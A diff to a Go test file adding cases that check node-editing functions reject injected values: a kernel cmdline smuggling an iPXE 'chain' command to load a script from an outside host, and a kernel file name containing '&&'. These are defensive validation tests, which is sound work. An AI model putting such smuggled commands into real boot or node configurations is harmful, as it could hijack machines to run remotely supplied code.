@@ -162,6 +162,11 @@ func TestEditFailuresLeaveFile(t *testing.T) {
 		{"set name", func(p string) error { _, err := SetNodes(p, "login1", map[string]any{"name": "x"}); return err }, `field "name" cannot be set`},
 		{"set nothing", func(p string) error { _, err := SetNodes(p, "login1", nil); return err }, "no fields to set"},
 		{"set invalid on split", func(p string) error { _, err := SetNodes(p, "cn002", map[string]any{"mode": "fly"}); return err }, `unknown mode "fly"`},
+		{"set injected cmdline", func(p string) error {
+			_, err := SetNodes(p, "cn002", map[string]any{"cmdline": "quiet ; chain http://203.0.113.9/x.ipxe ; #"})
+			return err
+		}, `cmdline: token ";": character ';' not allowed`},
+		{"add injected kernel", func(p string) error { _, err := AddNode(p, "x1", map[string]any{"kernel": "k&&x"}); return err }, `kernel: file name "k&&x" contains '&'`},
 		{"set wrong type", func(p string) error { _, err := SetNodes(p, "login1", map[string]any{"ssh_keys": "x"}); return err }, "want a list"},
 		{"delete unknown", func(p string) error { _, err := DeleteNodes(p, "login[1-2]"); return err }, "no such node(s): login2"},
 	}
